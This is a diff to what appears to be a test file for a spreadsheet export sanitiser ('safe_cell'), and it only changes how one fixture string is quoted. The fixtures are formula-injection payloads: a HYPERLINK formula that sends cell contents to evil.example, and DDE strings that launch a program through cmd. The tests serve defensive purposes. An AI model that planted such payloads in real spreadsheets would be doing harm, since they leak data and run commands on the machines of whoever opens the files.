@@ -12,7 +12,7 @@ from exports.builder.spreadsheet import safe_cell
 from tests import factories
 
 FORMULAS = {
-    "first_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "last_name": "+cmd|' /C calc'!A0",
     "address": "-2+3+cmd|' /C calc'!A0",
     "city": "@SUM(1+1)*cmd|' /C calc'!A0",
